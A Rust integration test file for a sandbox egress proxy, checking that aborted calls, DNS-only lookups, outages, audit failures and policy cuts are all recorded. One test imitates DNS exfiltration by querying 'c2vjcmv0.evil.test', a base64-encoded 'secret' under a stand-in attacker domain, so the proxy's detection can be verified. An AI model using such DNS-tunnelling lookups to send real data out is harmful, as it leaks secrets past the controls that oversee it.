//! Every call leaves its records: aborted ones, names that were only asked for, and all of them while the server is away.

mod kit;

use std::{net::SocketAddr, time::Duration};

use hickory_proto::rr::RecordType;
use http::Method;
use http_body_util::BodyExt;
use kit::{SANDBOX, World};
use openmiosa_testkit::{Answer, RecordingUpstream, SnapshotBuilder, TestCa, placeholder, until};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const OK: &str = "ok.test";

async fn world(script: impl Fn(&openmiosa_testkit::Recorded) -> Answer + Send + Sync + 'static) -> (World, RecordingUpstream) {
    let ca = TestCa::new();
    let upstream = RecordingUpstream::start(&ca, &[OK], script).await;
    (World::start(&[("ok.test:443", upstream.addr)], &ca).await, upstream)
}

fn snapshot() -> SnapshotBuilder {
    SnapshotBuilder::new(SANDBOX).bind("key", &placeholder(1), &[OK])
}

/// The furthest stage of a call that its client gave up.
async fn cancelled_at(world: &World) -> String {
    let decision = world.decision().await;
    assert_eq!((&decision["action"], &decision["host"]), (&json!("client_cancel"), &json!(OK)));
    assert_eq!(world.wait_records("outcome", 1).await[0]["end"], "client_cancel");
    decision["stage"].as_str().expect("a stage").to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a01_a_connection_that_says_nothing_is_recorded_as_accepted() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    drop(sandbox.connect(OK, 443).await);
    assert_eq!(cancelled_at(&world).await, "accepted");
}

#[tokio::test(flavor = "multi_thread")]
async fn a01_a_connection_that_ends_after_its_hello_is_recorded() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    let mut stream = sandbox.connect(OK, 443).await;
    stream.write_all(&[0x16, 3, 1, 0, 200, 1]).await.expect("the start of a hello");
    drop(stream);
    assert_eq!(cancelled_at(&world).await, "hello");
}

#[tokio::test(flavor = "multi_thread")]
async fn a01_a_client_that_distrusts_the_authority_is_recorded() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    let stranger = world.quiet_sandbox("sbx_other");
    let stream = sandbox.connect(OK, 443).await;
    assert!(stranger.tls_over(stream, OK).await.is_err());
    assert_eq!(cancelled_at(&world).await, "hello");
    assert_eq!(world.decision().await["protocol"], "tls");
}

#[tokio::test(flavor = "multi_thread")]
async fn a01_a_request_whose_client_vanishes_is_recorded_as_sent() {
    let (world, upstream) = world(|_| Answer::slow(Duration::from_secs(30))).await;
    let sandbox = world.sandbox(snapshot()).await;
    let mut stream = sandbox.tls(OK).await;
    stream.write_all(b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n").await.expect("sent");
    until("the request is at the upstream", || upstream.requests().len() == 1).await;
    drop(stream);
    assert_eq!(cancelled_at(&world).await, "sent");
}

#[tokio::test(flavor = "multi_thread")]
async fn a01_half_a_head_is_recorded() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    let mut stream = sandbox.tls(OK).await;
    stream.write_all(b"GET / HTTP/1.1\r\nHo").await.expect("sent");
    drop(stream);
    assert_eq!(cancelled_at(&world).await, "hello");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_that_is_left_unread_ends_as_a_client_cancel() {
    let (world, _upstream) = world(|_| Answer::sse(&["one"], Duration::from_millis(1)).hanging()).await;
    let sandbox = world.sandbox(snapshot()).await;
    let mut client = sandbox.client(OK).await;
    let mut body = client.start(Method::GET, "/", &[], "").await.into_body();
    body.frame().await.expect("a frame").expect("no error");
    drop((body, client));
    let outcome = world.wait_records("outcome", 1).await[0].clone();
    assert_eq!((&outcome["end"], &world.decision().await["status"]), (&json!("client_cancel"), &json!(200)));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_upstream_that_breaks_off_is_an_upstream_error() {
    let (world, _upstream) = world(|_| Answer::text(200, "half").header("content-length", "100").cut_short()).await;
    let sandbox = world.sandbox(snapshot()).await;
    let body = sandbox.client(OK).await.start(Method::GET, "/", &[], "").await.into_body();
    assert!(body.collect().await.is_err(), "a truncated body never ends cleanly");
    assert_eq!(world.wait_records("outcome", 1).await[0]["end"], "upstream_error");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_upstream_that_nobody_serves_is_unreachable() {
    let free: SocketAddr = "127.0.0.1:1".parse().expect("an address");
    let world = World::start(&[("ok.test:443", free)], &TestCa::new()).await;
    let sandbox = world.sandbox(snapshot()).await;
    assert_eq!(sandbox.get(OK, "/", &[]).await.status, 502);
    let decision = world.decision().await;
    assert_eq!(
        (&decision["action"], &decision["reason"], &decision["stage"]),
        (&json!("error"), &json!("upstream-unreachable"), &json!("decided"))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_head_that_does_not_come_is_a_timeout() {
    let ca = TestCa::new();
    let upstream = RecordingUpstream::start(&ca, &[OK], |_| Answer::slow(Duration::from_secs(30))).await;
    let world = World::start_with(&[("ok.test:443", upstream.addr)], &ca, |settings| settings.egress.header_timeout_ms = 100).await;
    let sandbox = world.sandbox(snapshot()).await;
    assert_eq!(sandbox.get(OK, "/", &[]).await.status, 504);
    assert_eq!(world.decision().await["reason"], "upstream-timeout");
}

#[tokio::test(flavor = "multi_thread")]
async fn d01_a_name_that_is_asked_and_never_connected_to_is_one_row_with_the_exact_count() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    for kind in [RecordType::A, RecordType::AAAA, RecordType::TXT] {
        sandbox.ask("c2vjcmv0.evil.test", kind).await;
    }
    assert_eq!(sandbox.get(OK, "/", &[]).await.status, 200);
    let stubs = || world.records("decision").into_iter().filter(|decision| decision["action"] == "stub").collect::<Vec<_>>();
    until("the window has ended", || !stubs().is_empty()).await;
    // A later window has ended too, so the name that was connected to had its chance to be one.
    sandbox.ask("later.evil.test", RecordType::A).await;
    until("a later window has ended", || stubs().len() > 1).await;
    let stubs = stubs();
    assert!(stubs.iter().all(|stub| stub["host"] != OK), "{stubs:#?}");
    assert_eq!((&stubs[0]["host"], &stubs[0]["count"], &stubs[0]["protocol"]), (&json!("c2vjcmv0.evil.test"), &json!(3), &json!("dns")));
}

#[tokio::test(flavor = "multi_thread")]
async fn dns_over_tcp_gives_the_same_answers() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    let over_udp = sandbox.resolve("ok.test").await;
    let mut message = hickory_proto::op::Message::query();
    message.add_query(hickory_proto::op::Query::query("ok.test.".parse().expect("a name"), RecordType::A));
    let query = message.to_vec().expect("a query");
    let mut stream = sandbox.dial("8.8.8.8:53".parse().expect("an address")).await;
    stream.write_u16(query.len().try_into().expect("short")).await.expect("sent");
    stream.write_all(&query).await.expect("sent");
    let mut answer = vec![0; stream.read_u16().await.expect("a length").into()];
    stream.read_exact(&mut answer).await.expect("an answer");
    let answer = hickory_proto::op::Message::from_vec(&answer).expect("a message");
    assert!(matches!(&answer.answers[0].data, hickory_proto::rr::RData::A(a) if a.0 == over_udp));
}

#[tokio::test(flavor = "multi_thread")]
async fn while_the_server_is_away_calls_go_on_and_their_records_wait() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    world.lend("key", 1, "sk-real").await.expect("lent");
    world.link.go_away(true);
    for _ in 0..3 {
        assert_eq!(sandbox.get(OK, "/", &[("authorization", &format!("Bearer {}", placeholder(1)))]).await.status, 200);
    }
    assert!(world.records("decision").is_empty());
    world.link.go_away(false);
    assert_eq!(world.wait_records("outcome", 3).await.len(), 3);
    let numbers: Vec<u64> = ["intent", "decision", "outcome"]
        .iter()
        .flat_map(|kind| world.records(kind))
        .map(|r| r["seq"].as_u64().expect("a number"))
        .collect();
    assert_eq!(numbers.iter().collect::<std::collections::BTreeSet<_>>().len(), 9, "each stored once");
}

#[tokio::test(flavor = "multi_thread")]
async fn a06_when_nothing_can_be_recorded_secrets_stop_and_the_rest_follows_policy() {
    let ca = TestCa::new();
    let upstream = RecordingUpstream::start(&ca, &[OK], |_| Answer::text(200, "")).await;
    let world = World::start_with(&[("ok.test:443", upstream.addr)], &ca, |settings| settings.egress.journal_max_bytes = 0).await;
    let sandbox = world.sandbox(snapshot()).await;
    world.lend("key", 1, "sk-real").await.expect("lent");
    let reply = sandbox.get(OK, "/", &[("authorization", &format!("Bearer {}", placeholder(1)))]).await;
    assert_eq!((reply.status, reply.headers["miosa-egress-deny"].to_str().expect("text")), (503, "audit-unavailable"));
    assert_eq!(sandbox.get(OK, "/", &[]).await.status, 200);
    assert_eq!(upstream.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_protocol_change_passes_bytes_both_ways_and_is_cut_by_lockdown() {
    let ca = TestCa::new();
    let echo = kit::echo_after_101(&ca, OK).await;
    let world = World::start(&[("ok.test:443", echo)], &ca).await;
    let sandbox = world.sandbox(snapshot()).await;
    let mut stream = sandbox.tls(OK).await;
    stream.write_all(b"GET /ws HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n").await.expect("sent");
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await.expect("a head"));
    }
    assert!(head.starts_with(b"HTTP/1.1 101 "), "{}", String::from_utf8_lossy(&head));
    stream.write_all(b"ping").await.expect("sent");
    let mut back = [0; 4];
    stream.read_exact(&mut back).await.expect("echoed");
    assert_eq!((&back, &world.decision().await["status"]), (b"ping", &json!(101)));
    assert_eq!(world.put(snapshot().revision(2).authority(&sandbox.ca).deny(OK)).await.expect("denied")["cut"], 1);
    assert!(!matches!(stream.read(&mut back).await, Ok(1..)), "cut");
    let outcome = world.wait_records("outcome", 1).await[0].clone();
    assert_eq!((&outcome["end"], &outcome["bytes_in"], &outcome["bytes_out"]), (&json!("cut_by_policy"), &json!(4), &json!(4)));
}

#[tokio::test(flavor = "multi_thread")]
async fn after_an_egressd_died_its_successor_still_knows_the_addresses() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    let address = sandbox.resolve(OK).await;
    // The successor's table is empty: nobody has asked it yet.
    *world.gateway.sandbox(SANDBOX).expect("the sandbox").names.lock() = openmiosa_proxy::dns::names::Names::default();
    let stream = sandbox.dial((address, 443).into()).await;
    let tls = sandbox.tls_over(stream, OK).await.expect("TLS");
    assert_eq!(kit::HttpClient::over(tls, OK).await.get("/", &[]).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn metrics_count_what_happened() {
    let (world, _upstream) = world(|_| Answer::text(200, "")).await;
    let sandbox = world.sandbox(snapshot()).await;
    sandbox.get(OK, "/", &[]).await;
    world.wait_records("outcome", 1).await;
    let text = world.gateway.metrics.render();
    assert!(text.contains("openmiosa_egress_calls_total{action=\"allow\",reason=\"none\"} 1"), "{text}");
}
